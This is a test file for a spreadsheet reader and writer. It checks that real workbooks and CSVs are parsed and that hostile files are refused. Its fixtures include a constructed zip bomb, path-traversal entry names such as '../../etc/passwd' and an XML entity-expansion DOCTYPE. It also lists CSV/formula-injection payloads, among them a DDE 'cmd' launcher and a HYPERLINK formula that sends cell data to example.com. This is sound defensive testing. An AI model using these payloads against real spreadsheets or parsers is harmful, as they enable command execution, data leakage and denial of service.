import { readFileSync } from 'node:fs'
import { deflateRawSync } from 'node:zlib'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { inlineRow, sheetOf, workbookParts, zip } from '../../../../tests/fixtures/spreadsheets/archive.ts'
import { registerFile, registerRow, registerTitles } from '../../../../tests/support/register-file.ts'
import { readArchive } from './read-archive.ts'
import { readWorkbook, sheetReasons, type ReadOptions } from './read-workbook.ts'
import { writeWorkbook } from './write-workbook.ts'
import { checkDirectory, inflate } from './zip-check.ts'

const fixture = (name: string): Buffer =>
  readFileSync(new URL(`../../../../tests/fixtures/spreadsheets/${name}`, import.meta.url))

const outcome = async (bytes: Buffer, options: ReadOptions = {}): Promise<string> => {
  const result = await readWorkbook(bytes, options)
  return result.ok ? `${result.value.length} rows` : result.code
}
const cellsOf = async (bytes: Buffer, options: ReadOptions = {}) => {
  const result = await readWorkbook(bytes, options)
  return result.ok ? result.value.map((row) => row.cells) : result.code
}
const asTexts = (row: readonly unknown[]): string[] => row.map(String)
const withPart = (name: string, body: string | Buffer, rows = inlineRow(1, ['a'])): Buffer =>
  zip([...workbookParts(sheetOf(rows)), { name, body: Buffer.from(body) }])

describe('files that are read', () => {
  it('saved by LibreOffice', async () => {
    const rows = await readWorkbook(fixture('libreoffice.xlsx'))
    expect(rows.ok && rows.value).toHaveLength(6)
    expect(rows.ok && asTexts(rows.value[3]!.cells)).toEqual(asTexts(registerRow(3)))
  })

  it('saved by Excel and by Google Sheets', async () => {
    expect((await cellsOf(fixture('excel-16.xlsx')))[1]).toEqual(['Number', 3.14])
    expect(await outcome(fixture('google-sheets.xlsx'))).toBe('3 rows')
  })

  it('saved by WPS Office', async () => {
    expect(await cellsOf(fixture('wps-11.xlsx'))).toEqual([['asdasd', 'asd']])
  })

  it('written by a program with shared texts', async () => {
    const rows = await cellsOf(await registerFile([registerRow(1), registerRow(2)]))
    expect(rows[2]).toEqual(registerRow(2))
  })

  it('in the manner of WPS: inline texts, absolute relations, no shared strings', async () => {
    const rows = await cellsOf(zip(workbookParts(sheetOf(inlineRow(1, registerTitles) + inlineRow(2, registerRow(3))))))
    expect(rows[1]).toEqual(registerRow(3).map(String))
  })

  it('with prefixed names, without references, and with back-slashes in part names', async () => {
    const sheet =
      '<x:worksheet xmlns:x="m"><x:sheetData><x:row><x:c><x:v>5</x:v></x:c><x:c t="str"><x:v>a&gt;b&#20320;</x:v></x:c></x:row></x:sheetData></x:worksheet>'
    const parts = workbookParts(sheet).map((it) => ({ ...it, name: it.name.replaceAll('/', '\\') }))
    expect(await cellsOf(zip(parts))).toEqual([[5, 'a>b你']])
  })

  it('with merged cells: the value stands in each row, and the numbers of rows are kept', async () => {
    const read = await readWorkbook(fixture('libreoffice-two-line-header.xlsx'))
    const rows = read.ok ? read.value : []
    expect(rows.map((row) => row.number)).toEqual([1, 2, 3, 4, 5])
    expect([rows[3]!.cells[2], rows[4]!.cells[2]]).toEqual(['双沟镇', '双沟镇'])
  })

  it('.csv in GB 18030, UTF-8 and UTF-16, whatever its name', async () => {
    const gbk = await cellsOf(fixture('gb18030.csv'))
    expect(gbk[0]).toEqual(registerTitles)
    expect(gbk[2]).toEqual(registerRow(2).map(String))
    expect(await cellsOf(Buffer.from('\uFEFF企业名称,备注\r\n泗洪,"a,""b""\n"\r\n\r\n'))).toEqual([
      ['企业名称', '备注'],
      ['泗洪', 'a,"b"\n'],
    ])
    expect(await cellsOf(Buffer.from('\uFEFF企业\t数\n甲\t1\n', 'utf16le'))).toEqual([
      ['企业', '数'],
      ['甲', '1'],
    ])
  })

  it('formulas by what they last gave, dates as dates, numbers as numbers, rich text as text', async () => {
    const book = new ExcelJS.Workbook()
    const sheet = book.addWorksheet('a')
    sheet.addRow([
      { formula: '1+1', result: 2 },
      9.13e17,
      new Date(Date.UTC(2026, 0, 5)),
      { richText: [{ text: '泗' }, { text: '洪' }] },
      { text: '网', hyperlink: 'https://example.com' },
      0.5,
      true,
      { error: '#N/A' },
      46_027,
    ])
    sheet.getCell('F1').numFmt = 'h:mm'
    sheet.getCell('I1').numFmt = 'yyyy"年"m"月"d"日"'
    const rows = await cellsOf(Buffer.from(await book.xlsx.writeBuffer()))
    expect(rows[0]).toEqual([2, 9.13e17, '2026-01-05', '泗洪', '网', '12:00', true, '#N/A', '2026-01-05'])
  })

  it('texts without signs that a database refuses', async () => {
    const rows = inlineRow(1, ['a_x0000_b', 'c&#xD800;d', 'e_x4F60_'])
    expect(await cellsOf(zip(workbookParts(sheetOf(rows))))).toEqual([['ab', 'c\ufffdd', 'e你']])
  })

  it('from the sheet whose header has the titles asked for', async () => {
    const book = zip(
      workbookParts(
        sheetOf(inlineRow(1, ['说明'])),
        sheetOf(inlineRow(1, ['名册']) + inlineRow(2, ['企业名称', '职工数（人）']) + inlineRow(3, ['甲', 5])),
      ),
    )
    expect(await cellsOf(book)).toEqual([['说明']])
    expect((await cellsOf(book, { titles: ['企业名称', '职工数'] }))[2]).toEqual(['甲', '5'])
  })

  it('a million empty formatted rows', async () => {
    const rows = Array.from({ length: 1_000_000 }, (_, at) => `<row r="${at + 2}" s="1"/>`).join('')
    const code = await outcome(zip(workbookParts(sheetOf(inlineRow(1, registerTitles) + rows))))
    expect(code).toBe('1 rows')
  }, 30_000)

  it('10,000 rows of 12 columns', async () => {
    const rows = Array.from({ length: 10_000 }, (_, at) => inlineRow(at + 1, [...registerRow(at), '备注', at]))
    const code = await outcome(zip(workbookParts(sheetOf(rows.join('')))))
    expect(code).toBe('10000 rows')
  }, 30_000)
})

describe('hostile and broken files are refused by name', () => {
  // Broken from its middle on: whoever inflates all of it finds it broken.
  const bomb = deflateRawSync(Buffer.alloc(100_000_000, 0x20))
  bomb.fill(0xff, bomb.length / 2)
  const withBomb = (declared: number): Buffer =>
    zip([...workbookParts(sheetOf('')), { name: 'xl/big.xml', body: Buffer.from(''), packed: bomb, declared }])

  it('a bomb, before anything is inflated', async () => {
    expect(await outcome(withBomb(100_000_000))).toBe('ZIP_TOO_LARGE')
    expect(await outcome(withBomb(40_000_000))).toBe('ZIP_BOMB')
  })

  it('a bomb whose directory lies about its size, after the declared bytes', async () => {
    expect(await outcome(withBomb(1_000))).toBe('ZIP_SIZE_FALSE')
  })

  it('a part that only a local header mentions is not read', async () => {
    const sheet = workbookParts(sheetOf(inlineRow(1, ['真'])))
    const hidden = { name: 'xl/worksheets/sheet1.xml', body: Buffer.from(sheetOf(inlineRow(1, ['假']))), hidden: true }
    expect(await cellsOf(zip([hidden, ...sheet]))).toEqual([['真']])
  })

  it('one shared text that stands in a thousand cells', async () => {
    const rows = Array.from({ length: 1_000 }, () => `<row><c t="s"><v>0</v></c></row>`).join('')
    const bytes = withPart('xl/sharedStrings.xml', `<sst><si><t>${'x'.repeat(900_000)}</t></si></sst>`, rows)
    expect(await outcome(bytes)).toBe('SHEET_TOO_HEAVY')
  })

  it('too many parts, doubled and unsafe names, encryption', async () => {
    const part = { name: 'a', body: Buffer.from('x') }
    expect(await outcome(zip(Array.from({ length: 300 }, (_, at) => ({ ...part, name: `a${at}` }))))).toBe(
      'ZIP_TOO_MANY_ENTRIES',
    )
    expect(await outcome(withPart('XL/workbook.xml', 'x'))).toBe('ZIP_DUPLICATE')
    expect(await outcome(zip([{ ...part, name: '../../etc/passwd' }]))).toBe('ZIP_UNSAFE_NAME')
    expect(await outcome(zip([{ ...part, name: '..\\x' }]))).toBe('ZIP_UNSAFE_NAME')
    expect(await outcome(zip([{ ...part, flags: 1 }]))).toBe('ZIP_ENCRYPTED')
    // The container Excel puts around a workbook with a password.
    const locked = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')])
    expect(await outcome(locked)).toBe('ZIP_ENCRYPTED')
  })

  it('XML that declares a document type, in any part', async () => {
    const entities = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
    const sheet = `<?xml version="1.0"?>${entities}${sheetOf(inlineRow(1, ['&b;']))}`
    expect(await outcome(zip(workbookParts(sheet)))).toBe('XML_DECLARES_TYPE')
    // Beyond the first bytes, and in another encoding.
    const late = `<?xml version="1.0"?><!--${' '.repeat(9_000)}-->${entities}${sheetOf('')}`
    expect(await outcome(zip(workbookParts(late)))).toBe('XML_DECLARES_TYPE')
    expect(await outcome(withPart('docProps/core.xml', `${entities}<x/>`))).toBe('XML_DECLARES_TYPE')
    const wide = Buffer.from(`\uFEFF${entities}<x/>`, 'utf16le')
    expect(await outcome(withPart('xl/sharedStrings.xml', wide))).toBe('XML_DECLARES_TYPE')
  })

  it('other formats under the name, a picture, half a file, nothing', async () => {
    expect(await outcome(fixture('libreoffice-97.xls'))).toBe('OLD_XLS')
    expect(await outcome(fixture('libreoffice.ods'))).toBe('NOT_A_WORKBOOK')
    expect(await outcome(Buffer.from('<html><table><tr><td>1</td></tr></table></html>'))).toBe('WEB_PAGE')
    expect(await outcome(Buffer.from('89504e470d0a1a0a0000000d', 'hex'))).toBe('NOT_A_ZIP')
    const whole = fixture('libreoffice.xlsx')
    expect(await outcome(whole.subarray(0, whole.length / 2))).toBe('ZIP_BROKEN')
    expect(await outcome(Buffer.alloc(0))).toBe('FILE_EMPTY')
    const bitten = Buffer.from(whole)
    bitten.fill(0x55, 2_000, 2_040)
    expect(await outcome(bitten)).toMatch(/^ZIP_(BROKEN|SIZE_FALSE)$/)
  })

  it('a sheet cut short, rather than read as if it held fewer rows', async () => {
    expect(await outcome(zip(workbookParts(`<worksheet><sheetData>${inlineRow(1, ['a'])}<row`)))).toBe('XML_BROKEN')
    expect(await outcome(zip(workbookParts(`<worksheet><sheetData>${inlineRow(1, ['a'])}`)))).toBe('XML_BROKEN')
  })

  // Looked through again for each of its signs it would outlast the thread's time.
  it('a tag that never ends', async () => {
    const code = await outcome(zip(workbookParts(`<worksheet><sheetData><row r="${'>'.repeat(3_000_000)}`)))
    expect(code).toMatch(/^(XML_BROKEN|ZIP_BOMB)$/)
    const long = await outcome(zip(workbookParts(`<worksheet><sheetData><row r="${'>'.repeat(900_000)}`)))
    expect(long).toBe('XML_BROKEN')
  })

  it('whatever single bytes are changed: rows or a name, never a crash', async () => {
    const whole = fixture('libreoffice.xlsx')
    const limits = { maxRows: 100, maxColumns: 50, maxSigns: 100_000 }
    // A fixed sequence, so that a failure can be looked at again.
    let seed = 7
    const next = (below: number): number => (seed = (seed * 48_271) % 2_147_483_647) % below
    for (let run = 0; run < 400; run++) {
      const bytes = Buffer.from(whole)
      for (let change = 0; change < 3; change++) bytes[next(bytes.length)] = next(256)
      const entries = await checkDirectory(bytes)
      const read = entries.ok ? readArchive(bytes, entries.value, [], limits) : entries
      if (!read.ok) expect(Object.keys(sheetReasons)).toContain(read.code)
    }
    // The same inside the parts, where no check sum stands in the way.
    const parts = workbookParts(
      sheetOf(inlineRow(1, registerTitles), '<mergeCells><mergeCell ref="A1:A3"/></mergeCells>'),
    )
    for (let run = 0; run < 600; run++) {
      const hurt = parts.map((it) => ({ ...it, body: Buffer.from(it.body) }))
      const { body } = hurt[1 + next(hurt.length - 1)]!
      for (let change = 0; change < 3; change++) body[next(body.length)] = next(128)
      const bytes = zip(hurt)
      const entries = await checkDirectory(bytes)
      const read = entries.ok ? readArchive(bytes, entries.value, [], limits) : entries
      if (!read.ok) expect(Object.keys(sheetReasons)).toContain(read.code)
    }
  })

  it('too many rows and columns that hold something; empty ones do not count', async () => {
    const rows = Array.from({ length: 30 }, (_, at) => inlineRow(at + 1, ['a'])).join('')
    expect(await outcome(zip(workbookParts(sheetOf(rows))), { maxRows: 29 })).toBe('SHEET_TOO_LONG')
    const far = (cell: string) => zip(workbookParts(sheetOf(`<row r="1"><c r="A1"><v>1</v></c>${cell}</row>`)))
    expect(await outcome(far('<c r="XFD1"><v>1</v></c>'))).toBe('SHEET_TOO_WIDE')
    expect(await cellsOf(far('<c r="XFD1" s="1"/>'))).toEqual([[1]])
    expect(await outcome(Buffer.from(`a\n${'x,'.repeat(300)}`))).toBe('SHEET_TOO_WIDE')
  })

  it('what needs more memory or time than the thread may have', async () => {
    const rows = Array.from({ length: 15_000 }, (_, at) => inlineRow(at + 1, registerRow(at)))
    const bytes = zip(workbookParts(sheetOf(rows.join(''))))
    expect(await outcome(bytes, { memoryMb: 8 })).toBe('SHEET_TOO_HEAVY')
    expect(await outcome(bytes, { seconds: 0.02 })).toBe('SHEET_TOO_HEAVY')
  }, 30_000)
})

describe('files that are written', () => {
  // = + - @ and what hides them, their full-width forms, and commands seen in the wild.
  const payloads = [
    ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [
      `${sign}1+1`,
      `\t${sign}1`,
      `\n${sign}1`,
      ` ${sign}SUM(A1)`,
    ]),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?"&A1,"x")',
    '@SUM(1+1)*cmd|A0',
    '+1-1|A0',
    '{=1+1}',
    '"=1+1"',
    ';=1',
    '=1]]></t><f>1+1</f>',
  ]

  it('hold formula-like texts as texts, in columns of every kind', async () => {
    const bytes = await writeWorkbook({
      name: 'x',
      columns: [
        { title: '=名', width: 10, value: (row: string) => row },
        { title: '数', width: 10, kind: 'number', value: (row: string) => row },
        { title: '日', width: 10, kind: 'date', value: (row: string) => row },
      ],
      rows: payloads,
    })
    const entries = await checkDirectory(bytes)
    const sheet = entries.ok && entries.value.find((it) => it.name === 'xl/worksheets/sheet1.xml')
    const part = sheet && inflate(bytes, sheet)
    const xml = part && part.ok ? part.value.toString() : ''
    expect(xml).not.toMatch(/<f[ >]/)
    expect(xml.match(/<c [^>]*t="s"/g)).toHaveLength(3 * (payloads.length + 1))
    const rows = await cellsOf(bytes)
    expect(rows.slice(1)).toEqual(payloads.map((text) => [text, text, text]))
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(bytes as unknown as ArrayBuffer)
    expect([1, 2, 3].map((at) => book.worksheets[0]!.getCell(2, at).numFmt)).toEqual(['@', '@', '@'])
  })

  it('keep codes and phones as text, dates as dates, and take no sign XML forbids', async () => {
    const bytes = await writeWorkbook({
      name: '名册[2026]/1:甲乙丙丁戊己庚辛壬癸甲乙丙丁戊己庚辛壬癸',
      columns: [
        { title: '代码', width: 20, value: () => '911321324000000001' },
        { title: '日', width: 10, kind: 'date', value: () => '2026-11-23' },
        { title: '字', width: 10, value: () => 'a\u0000\u000bb\ud800' },
        { title: '数', width: 10, kind: 'number', value: () => 7 },
      ],
      rows: [null],
    })
    expect((await cellsOf(bytes))[1]).toEqual(['911321324000000001', '2026-11-23', 'ab\ufffd', 7])
  })

  it('offer drop-downs, long and odd ones from a hidden sheet, closed or open', async () => {
    const long = Array.from({ length: 60 }, (_, at) => `第${at}号乡镇街道`)
    const bytes = await writeWorkbook({
      name: 'x',
      columns: [
        { title: '级', width: 8, value: () => null, choices: ['县级', '市级'], orOther: true },
        { title: '镇', width: 8, value: () => null, choices: long },
        { title: '逗', width: 8, value: () => null, choices: ['a,b', 'c'] },
      ],
      rows: [],
      spareRows: 10,
    })
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(bytes as unknown as ArrayBuffer)
    const sheet = book.worksheets[0]!
    expect(sheet.getCell('A5').dataValidation.formulae).toEqual(['"县级,市级"'])
    expect(sheet.getCell('A5').dataValidation.showErrorMessage).not.toBe(true)
    expect(sheet.getCell('B5').dataValidation).toMatchObject({ formulae: ['选项!$A$1:$A$60'], showErrorMessage: true })
    expect(sheet.getCell('C11').dataValidation.formulae).toEqual(['选项!$B$1:$B$2'])
    expect(book.getWorksheet('选项')!.state).toBe('veryHidden')
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
  })

  it('paint the cells that are bad, and no others', async () => {
    const bytes = await writeWorkbook({
      name: 'x',
      columns: [
        { title: '甲', width: 8, value: (row: number) => row },
        { title: '错误原因', width: 40, value: () => '甲：不对' },
      ],
      rows: [1, 2],
      bad: (row) => (row === 2 ? ['甲'] : []),
    })
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(bytes as unknown as ArrayBuffer)
    const fill = (ref: string) =>
      (book.worksheets[0]!.getCell(ref).fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb
    expect(['A2', 'A3', 'B3'].map(fill)).toEqual([undefined, 'FFFFC7C2', undefined])
  })
})
